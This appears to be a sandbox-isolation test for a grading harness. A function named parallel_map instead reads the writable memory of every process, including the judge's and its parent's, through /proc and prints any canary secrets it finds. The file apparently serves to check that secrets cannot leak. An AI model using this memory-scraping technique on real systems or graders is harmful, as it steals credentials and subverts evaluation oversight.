"""Searches the writable memory of all processes for secrets: its parent's, process 1's, the judge's, its own.

needs: isolation
"""

import os
import re

SECRET = re.compile(rb"CANARY-[a-z-]+-[0-9a-f]{16}")


def search(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            begin, end = (int(place, 16) for place in line.split()[0].split("-"))
            if " rw" not in line or end - begin > 1 << 26:
                continue
            memory.seek(begin)
            yield from SECRET.findall(memory.read(end - begin))


def parallel_map(function, items, workers):
    for pid in {*filter(str.isdigit, os.listdir("/proc")), "@JUDGE@", "self", str(os.getppid())}:
        try:
            print(pid, set(search(pid)), flush=True)
        except (OSError, OverflowError):
            continue
    return []
